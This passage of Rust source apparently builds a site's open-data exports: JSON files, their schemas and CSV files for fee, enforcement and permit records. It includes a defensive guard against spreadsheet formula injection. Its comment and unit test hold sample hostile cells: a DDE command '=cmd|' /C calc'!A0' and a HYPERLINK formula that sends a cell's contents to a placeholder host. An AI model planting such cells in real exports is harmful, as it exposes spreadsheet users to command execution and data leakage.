            .map(|r| json_fragment(site, facts, &fs, r))
            .collect::<Vec<String>>()
    });
    (json_file(fragments), records.len())
}

fn field_schema(fd: &F) -> Value {
    let mut s = type_schema(&fd.ty);
    if fd.null {
        s = match s {
            Value::Object(mut m) => {
                if let Some(Value::String(t)) = m.get("type").cloned() {
                    m.insert("type".into(), json!([t, "null"]));
                }
                if let Some(Value::Array(mut e)) = m.get("enum").cloned() {
                    e.push(Value::Null);
                    m.insert("enum".into(), Value::Array(e));
                }
                Value::Object(m)
            }
            other => other,
        };
    }
    if let Value::Object(m) = &mut s {
        m.insert("title".into(), json!(fd.zh));
        m.insert("description".into(), json!(fd.en));
    }
    s
}

fn object_schema(fs: &[F]) -> Value {
    let props: serde_json::Map<String, Value> = fs
        .iter()
        .map(|fd| (fd.name.to_string(), field_schema(fd)))
        .collect();
    json!({
        "type": "object",
        "additionalProperties": false,
        "required": fs.iter().map(|fd| fd.name).collect::<Vec<_>>(),
        "properties": props,
    })
}

fn type_schema(ty: &Ty) -> Value {
    match ty {
        Ty::Str => json!({"type": "string"}),
        Ty::Int => json!({"type": "integer", "minimum": 0}),
        Ty::Num => json!({"type": "number"}),
        Ty::Bool => json!({"type": "boolean"}),
        Ty::Date => {
            json!({"type": "string", "format": "date", "pattern": "^[0-9]{4}-[0-9]{2}-[0-9]{2}$"})
        }
        Ty::DateTime => json!({"type": "string", "format": "date-time"}),
        Ty::Url => json!({"type": "string", "format": "uri"}),
        Ty::StrList => json!({"type": "array", "items": {"type": "string"}}),
        Ty::UrlList => json!({"type": "array", "items": {"type": "string", "format": "uri"}}),
        Ty::Enum(vals) => json!({"type": "string", "enum": vals}),
        Ty::Obj(fs) => object_schema(fs),
        Ty::ObjList(fs) => json!({"type": "array", "items": object_schema(fs)}),
    }
}

/// The JSON Schema of a kind's data file.
pub fn schema(site: &Site, kind: Kind) -> Value {
    let base = site.config.base_path();
    json!({
        "$schema": "https://json-schema.org/draft/2020-12/schema",
        "$id": absolute(site, &format!("{base}data/{}.schema.json", kind.folder())),
        "title": format!("{} · {}", kind.label(), site.config.title),
        "description": format!("Open data: every published record of the kind `{}` ({}). Field reference: docs/open-data.md.", kind.name(), kind.label()),
        "type": "array",
        "items": object_schema(&fields(kind)),
    })
}

static DATASET: &[F] = &[
    f("id", Ty::Str, "标识", "File name without its extension."),
    f("title", Ty::Str, "名称", "Title of the data set."),
    f(
        "format",
        Ty::Enum(&["json", "csv"]),
        "格式",
        "`json` or `csv`.",
    ),
    f(
        "media_type",
        Ty::Str,
        "媒体类型",
        "Media type to serve the file with.",
    ),
    f("url", Ty::Url, "网址", "Absolute URL of the file."),
    n(
        "schema",
        Ty::Url,
        "数据结构说明",
        "Absolute URL of the JSON Schema of a JSON file; `null` for CSV.",
    ),
    f(
        "records",
        Ty::Int,
        "记录数",
        "Objects (JSON) or data rows (CSV).",
    ),
    n(
        "updated",
        Ty::Date,
        "更新日期",
        "Newest 发布日期 or 更新日期 among the records.",
    ),
];

static INDEX: &[F] = &[
    f("title", Ty::Str, "名称", "Title of the site's open data."),
    f(
        "publisher",
        Ty::Str,
        "发布机构",
        "Organisation that publishes the data.",
    ),
    f("homepage", Ty::Url, "网站首页", "Absolute URL of the site."),
    f(
        "datasets",
        Ty::ObjList(DATASET),
        "数据集",
        "Every data file.",
    ),
];

fn index_schema(site: &Site) -> Value {
    let base = site.config.base_path();
    let mut s = object_schema(INDEX);
    if let Value::Object(m) = &mut s {
        m.insert(
            "$schema".into(),
            json!("https://json-schema.org/draft/2020-12/schema"),
        );
        m.insert(
            "$id".into(),
            json!(absolute(site, &format!("{base}data/index.schema.json"))),
        );
        m.insert("title".into(), json!("Open data index"));
    }
    s
}

/// RFC 4180 field: quoted when it holds a comma, quote, CR or LF. A text a spreadsheet would
/// run as a formula is neutralised first ([`neutralise_formula`]).
pub fn csv_field(s: &str) -> String {
    let s = neutralise_formula(s);
    if s.contains([',', '"', '\r', '\n']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s.into_owned()
    }
}

use crate::content::kinds::fee::{number, Basis, Standard};

fn fee_basis(b: &Basis) -> Value {
    json!({"title": b.title, "doc_no": b.doc_no})
}

/// A fee standard (a sub-item has no `items`).
fn fee_standard(s: &Standard) -> Value {
    json!({
        "item": s.item, "form": s.form(), "amount": s.amount, "min": s.min, "max": s.max,
        "rate": s.rate, "rate_unit": s.rate_unit, "rate_of": s.rate_of, "unit": s.unit,
        "text": s.text, "display": s.display(number),
        "basis": s.basis.iter().map(fee_basis).collect::<Vec<_>>(), "note": s.note,
    })
}

/// A top-level fee standard: with its sub-items.
fn fee_standard_top(s: &Standard) -> Value {
    let mut v = fee_standard(s);
    if let Value::Object(m) = &mut v {
        m.insert(
            "items".into(),
            Value::Array(s.items.iter().map(fee_standard).collect()),
        );
    }
    v
}

/// Spreadsheet formula injection (CWE-1236): Excel, WPS and LibreOffice run a cell that
/// begins with `=`, `+`, `-` or `@` (or a tab or carriage return before one) as a formula,
/// and a record's text (a fee's note, a party's name) could be `=HYPERLINK(…)` or
/// `=cmd|'/C calc'!A0`. Such a cell gets a leading `'`, which spreadsheets show as text and
/// hide. A number (`-5`, `+3.5`, `-1e3`) is left alone: it is not a formula, and stays a
/// number; dates (`2026-11-20`) and the other cells never begin with these characters.
pub fn neutralise_formula(s: &str) -> std::borrow::Cow<'_, str> {
    let risky = s
        .chars()
        .next()
        .is_some_and(|c| matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r'));
    if risky && !is_plain_number(s) {
        std::borrow::Cow::Owned(format!("'{s}"))
    } else {
        std::borrow::Cow::Borrowed(s)
    }
}

/// `-5`, `+3.50`, `-1e3`: an optional sign, digits with at most one point, an optional
/// exponent; nothing else.
fn is_plain_number(s: &str) -> bool {
    let s = s.strip_prefix(['+', '-']).unwrap_or(s);
    let (mantissa, exponent) = match s.split_once(['e', 'E']) {
        Some((m, e)) => (m, Some(e.strip_prefix(['+', '-']).unwrap_or(e))),
        None => (s, None),
    };
    let (int, frac) = mantissa.split_once('.').unwrap_or((mantissa, ""));
    let digits = |t: &str| t.bytes().all(|b| b.is_ascii_digit());
    !(int.is_empty() && frac.is_empty())
        && digits(int)
        && digits(frac)
        && exponent.is_none_or(|e| !e.is_empty() && digits(e))
}

/// The rows of a CSV file (without the header).
/// The rows one record gives a CSV file.
fn csv_rows(site: &Site, r: &Record) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let s = |o: &Option<String>| o.clone().unwrap_or_default();
    let url = absolute(site, &record_url(site, r));
    let published = r
        .common
        .published
        .map(|d| d.to_string())
        .unwrap_or_default();
    match &r.data {
        Data::Fee(x) => {
            let basis = |b: &[Basis]| b.iter().map(|b| b.label()).collect::<Vec<_>>().join("；");
            let opt = |x: Option<f64>| x.map(number).unwrap_or_default();
            for top in &x.standards {
                let rows_of = std::iter::once((None, top))
                    .chain(top.items.iter().map(|c| (Some(&top.item), c)));
                for (parent, st) in rows_of {
                    rows.push(vec![
                        r.id.clone(),
                        r.common.title.clone(),
                        st.item.clone(),
                        opt(st.amount),
                        s(&st.unit),
                        s(&st.note),
                        s(&x.payer),
                        basis(&x.basis),
                        published.clone(),
                        url.clone(),
                        parent.cloned().unwrap_or_default(),
                        st.form().to_string(),
                        st.display(number),
                        opt(st.min),
                        opt(st.max),
                        opt(st.rate),
                        s(&st.rate_unit),
                        s(&st.rate_of),
                        s(&st.text),
                        basis(&st.basis),
                    ]);
                }
            }
        }
        Data::Enforcement(e) => {
            let person = e.party.party_type == "自然人";
            rows.push(vec![
                e.case_no.clone(),
                r.common.title.clone(),
                e.action.clone(),
                e.party.party_type.clone(),
                e.party.name.clone(),
                if person {
                    String::new()
                } else {
                    s(&e.party.credit_code)
                },
                e.fine.map(number).unwrap_or_default(),
                e.decided.to_string(),
                e.authority.clone(),
                published.clone(),
                s(&r.common.index_no),
                url.clone(),
            ]);
        }
        Data::Permit(p) => {
            for (i, m) in p.materials.iter().enumerate() {
                rows.push(vec![
                    r.id.clone(),
                    r.common.title.clone(),
                    (i + 1).to_string(),
                    m.name.clone(),
                    m.copies.map(|n| n.to_string()).unwrap_or_default(),
                    m.form_text().unwrap_or_default().to_string(),
                    m.required
                        .map(|r| if r { "必需" } else { "视情况提供" })
                        .unwrap_or_default()
                        .to_string(),
                    s(&m.note),
                    url.clone(),
                ]);
            }
        }
        _ => {}
    }
    rows
}

/// A CSV line: RFC 4180 quoting, CRLF.
fn csv_line(cells: &[String]) -> String {
    cells
        .iter()
        .map(|c| csv_field(c))
        .collect::<Vec<_>>()
        .join(",")
        + "\r\n"
}

/// A record's lines in its kind's CSV file (none, one or several) and how many.
pub(crate) fn csv_fragment(site: &Site, r: &Record) -> (String, usize) {
    let rows = csv_rows(site, r);
    (rows.iter().map(|row| csv_line(row)).collect(), rows.len())
}

/// The start of a CSV file: a byte-order mark (for Excel) and the header line.
pub(crate) fn csv_head(csv: &Csv) -> String {
    let header: Vec<String> = csv.columns.iter().map(|c| c.0.to_string()).collect();
    format!("\u{feff}{}", csv_line(&header))
}

/// A CSV file's bytes: UTF-8 with a byte-order mark (for Excel), CRLF, RFC 4180 quoting.
pub fn csv_text(site: &Site, facts: &Facts, csv: &Csv) -> (String, usize) {
    csv_text_each(site, facts, csv, &mut |_, _, _| {})
}

/// [`csv_text`], handing each record's lines and row count to `each` as well.
pub(crate) fn csv_text_each(
    site: &Site,
    facts: &Facts,
    csv: &Csv,
    each: &mut dyn FnMut(&Record, &str, usize),
) -> (String, usize) {
    let mut out = csv_head(csv);
    let mut n = 0;
    for r in exported_of(site, facts, csv.kind) {
        let (lines, rows) = csv_fragment(site, r);
        out.push_str(&lines);
        each(r, &lines, rows);
        n += rows;
    }
    (out, n)
}

fn pretty(v: &Value) -> String {
    serde_json::to_string_pretty(v).unwrap_or_else(|_| "null".into()) + "\n"
}

/// Every open-data file.
pub fn files(site: &Site, facts: &Facts) -> Vec<Output> {
    files_with(site, facts, None)
}

/// [`files`]; with `live`, the data and CSV files are made from per-record fragments kept
/// there, to be updated in place after a one-record edit ([`super::live::LiveData`]).
pub(crate) fn files_with(
    site: &Site,
    facts: &Facts,
    mut live: Option<&mut super::live::LiveData>,
) -> Vec<Output> {
    let base = site.config.base_path();
    let abs = |name: &str| absolute(site, &format!("{base}data/{name}"));
    let mut out = Vec::new();
    let mut datasets = Vec::new();
    let updated = |kind: Kind| {
        exported_of(site, facts, kind)
            .filter_map(content_date)
            .max()
            .map(|d| d.to_string())
    };
    for kind in sections() {
        let (text, count) = match live.as_deref_mut() {
            Some(l) => l.data_json(site, facts, kind),
            None => data_json(site, facts, kind),
        };
        let name = kind.folder();
        out.push(Output::Bytes {
            path: format!("data/{name}.json"),
            bytes: text.into_bytes(),
        });
        out.push(Output::Bytes {
            path: format!("data/{name}.schema.json"),
            bytes: pretty(&schema(site, kind)).into_bytes(),
        });
        datasets.push(json!({
            "id": name, "title": kind.label(), "format": "json", "media_type": "application/json",
            "url": abs(&format!("{name}.json")), "schema": abs(&format!("{name}.schema.json")),
            "records": count, "updated": updated(kind),
        }));
    }
    for (i, csv) in CSVS.iter().enumerate() {
        let (text, count) = match live.as_deref_mut() {
            Some(l) => l.csv_text(site, facts, i),
            None => csv_text(site, facts, csv),
        };
        out.push(Output::Bytes {
            path: format!("data/{}.csv", csv.name),
            bytes: text.into_bytes(),
        });
        datasets.push(json!({
            "id": csv.name, "title": csv.title, "format": "csv", "media_type": "text/csv; charset=utf-8; header=present",
            "url": abs(&format!("{}.csv", csv.name)), "schema": null,
            "records": count, "updated": updated(csv.kind),
        }));
    }
    let index = json!({
        "title": format!("{} 开放数据", site.config.title),
        "publisher": site.config.organization.name,
        "homepage": absolute(site, &base),
        "datasets": datasets,
    });
    let mut text = String::new();
    write_object(&mut text, &index, INDEX, 0);
    text.push('\n');
    out.push(Output::Bytes {
        path: "data/index.json".into(),
        bytes: text.into_bytes(),
    });
    out.push(Output::Bytes {
        path: "data/index.schema.json".into(),
        bytes: pretty(&index_schema(site)).into_bytes(),
    });
    out
}

fn type_doc(ty: &Ty) -> String {
    match ty {
        Ty::Str => "string".into(),
        Ty::Int => "integer".into(),
        Ty::Num => "number".into(),
        Ty::Bool => "boolean".into(),
        Ty::Date => "date (`YYYY-MM-DD`)".into(),
        Ty::DateTime => "date-time (RFC 3339)".into(),
        Ty::Url => "URL".into(),
        Ty::StrList => "array of string".into(),
        Ty::UrlList => "array of URL".into(),
        Ty::Enum(v) => format!("one of {}", v.join(" / ")),
        Ty::Obj(_) => "object (below)".into(),
        Ty::ObjList(_) => "array of object (below)".into(),
    }
}

fn doc_rows(fs: &[F], prefix: &str, out: &mut String) {
    for fd in fs {
        let name = format!("{prefix}{}", fd.name);
        let _ = writeln!(
            out,
            "| `{name}` | {} | {} | {}{} |",
            fd.zh,
            type_doc(&fd.ty),
            if fd.null { "may be `null`. " } else { "" },
            fd.en.replace('|', "\\|")
        );
        match fd.ty {
            Ty::Obj(sub) => doc_rows(sub, &format!("{name}."), out),
            Ty::ObjList(sub) => doc_rows(sub, &format!("{name}[]."), out),
            _ => {}
        }
    }
}

/// The generated field reference of `docs/open-data.md`.
pub fn field_reference() -> String {
    let mut out = String::new();
    out.push_str("### Common fields (every JSON data set)\n\n");
    out.push_str("| field | 中文 | type | meaning |\n|---|---|---|---|\n");
    doc_rows(COMMON, "", &mut out);
    for kind in sections() {
        let _ = writeln!(
            out,
            "\n### `data/{}.json` — {}\n",
            kind.folder(),
            kind.label()
        );
        out.push_str("| field | 中文 | type | meaning |\n|---|---|---|---|\n");
        doc_rows(kind_fields(kind), "", &mut out);
    }
    out.push_str("\n### `data/index.json` — 数据目录\n\n");
    out.push_str("| field | 中文 | type | meaning |\n|---|---|---|---|\n");
    doc_rows(INDEX, "", &mut out);
    for csv in CSVS {
        let _ = writeln!(out, "\n### `data/{}.csv` — {}\n", csv.name, csv.title);
        out.push_str("| column | JSON field |\n|---|---|\n");
        for (h, j) in csv.columns {
            let _ = writeln!(out, "| {h} | `{j}` |");
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_a_spreadsheet_would_run_as_formulas_are_neutralised_and_numbers_kept() {
        for (cell, written) in [
            (
                "=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")",
                "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点击\"\")\"",
            ),
            ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
            ("+86 717 1234567", "'+86 717 1234567"),
            ("-1+2", "'-1+2"),
            ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
            ("\t=1", "'\t=1"),
            ("-", "'-"),
            ("-5", "-5"),
            ("+3.50", "+3.50"),
            ("-1e3", "-1e3"),
            ("1200", "1200"),
            ("2026-11-20", "2026-11-20"),
            ("按次", "按次"),
            ("a=b", "a=b"),
            ("", ""),
        ] {
            assert_eq!(csv_field(cell), written, "{cell}");
        }
    }

    #[test]
    fn csv_fields_are_quoted_as_rfc_4180_says() {
        assert_eq!(csv_field("a"), "a");
        assert_eq!(csv_field("a,b"), "\"a,b\"");
        assert_eq!(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(csv_field("a\nb"), "\"a\nb\"");
    }

    #[test]
    fn numbers_drop_a_zero_fraction() {
        assert_eq!(number(5000.0), "5000");
        assert_eq!(number(12.5), "12.5");
    }

    #[test]
    fn objects_are_written_in_field_order_with_missing_fields_null() {
        static FS: &[F] = &[
            f("b", Ty::Str, "乙", "b"),
            n("a", Ty::Obj(ATTACHMENT), "甲", "a"),
        ];
        let mut out = String::new();
        write_object(&mut out, &json!({"a": {"url": "u", "title": "t"}}), FS, 0);
        assert_eq!(
            out,
            "{\n  \"b\": null,\n  \"a\": {\n    \"title\": \"t\",\n    \"url\": \"u\"\n  }\n}"
        );
    }

    /// The objects carry exactly the documented fields (the writer would silently drop others).
    #[test]
    fn objects_of_the_example_site_have_exactly_the_documented_fields() {
        let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
        let Ok((site, _)) = crate::content::load_site(root, &Default::default()) else {
            panic!("the example site loads")
        };
        let Ok(cal) = crate::calendar::Calendar::load(root) else {
            panic!("calendar")
        };
        let now = "2026-11-25T02:00:00Z".parse().unwrap_or_else(|_| panic!());
        let (facts, _) = crate::facts::facts(&site, &cal, &crate::facts::BuildTime { now });
        let mut seen = 0;
        for kind in sections() {
            let want: Vec<&str> = fields(kind).iter().map(|f| f.name).collect();
            for r in exported_of(&site, &facts, kind) {
                let v = object(&site, &facts, r);
                let mut got: Vec<&str> = v
                    .as_object()
                    .map(|m| m.keys().map(String::as_str).collect())
                    .unwrap_or_default();
                let mut w = want.clone();
                got.sort_unstable();
                w.sort_unstable();
                assert_eq!(got, w, "{}", r.key());
                seen += 1;
            }
        }
        assert!(seen > 30);
    }

    #[test]
    fn every_field_name_is_unique_within_its_object() {
        for kind in sections() {
            let names: Vec<&str> = fields(kind).iter().map(|f| f.name).collect();
            let set: std::collections::BTreeSet<&&str> = names.iter().collect();
            assert_eq!(set.len(), names.len(), "{kind:?}");
        }
    }
}
